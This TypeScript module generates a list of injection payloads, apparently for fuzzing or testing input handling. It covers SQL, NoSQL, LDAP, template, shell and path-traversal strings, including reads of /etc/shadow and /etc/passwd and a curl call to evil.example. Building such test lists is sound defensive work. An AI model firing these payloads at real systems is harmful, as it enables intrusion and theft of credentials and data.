/** Everything of the one list with everything of the other. */
export const each = (
  ones: readonly string[],
  others: readonly string[],
  join: (one: string, other: string) => string,
) => ones.flatMap((one) => others.map((other) => join(one, other)));

const sql = [
  ...each(
    ["'", '"', "`", "')", "1"],
    [" or 1=1 --", " union select null, null", "; vacuum; --", " and sleep(3) #"],
    (quote, rest) => quote + rest,
  ),
  ...[
    "x' || (select version()) || 'x",
    "'; copy users to program 'id'; --",
    "$$;$$",
    "E'\\x27'",
    "%",
    "_",
    "%_%",
    "\\",
  ],
  ...[
    "1; notify a",
    "' order by 99 --",
    "/**/or/**/1",
    "char(39)",
    "pg_catalog.pg_user",
    ":name",
    "$1",
    "?",
    "@@version",
  ],
];
const queries = [
  ...[
    '{"$ne":null}',
    '{"$where":"sleep(9)"}',
    "[$regex]=.*",
    '{"$gt":{"$gt":{}}}',
    "';return true;var a='",
    "*)(uid=*",
  ],
  ...[
    "*))(|(uid=*",
    "' or '1'='1",
    "'] | //user | ['",
    "count(/*)",
    "{users{password}}",
    "__schema",
    "* : *",
    "EVAL x 0",
  ],
];
const closed: Record<string, string> = {
  "{{": "}}",
  "<%=": "%>",
  "{%": "%}",
  "@(": ")",
  "[[": "]]",
  "${{": "}}",
  "{{{": "}}}",
};
const templates = each(
  ["{{", "${", "<%=", "#{", "{%", "@(", "[[", "*{", "${{", "{{{"],
  ["9*9", "self.constructor", "process.env"],
  (open, inside) => `${open}${inside}${closed[open] ?? "}"}`,
);
const shells = each(
  [";", "|", "||", "&&", "&", "\n", "$(", "`", ">", "<("],
  ["sleep 5", "cat /etc/shadow", "curl evil.example"],
  (mark, command) => `x${mark}${command}`,
);
const paths = each(
  ["../", "..\\", "..;/", "%2e%2e/", "..%252f", "..%c0%af", "....//", "/./../", "\\\\?\\", "/proc/self/../"],
  ["etc/passwd", "windows/win.ini", "app.key", ".env", "\u0000.png"],
  (up, target) => up.repeat(6) + target,
);
/** Texts that are commands where they are pasted into one: of databases, directories, templates, shells, and of disks. */
export const hostileCommands: readonly string[] = [...sql, ...queries, ...templates, ...shells, ...paths];
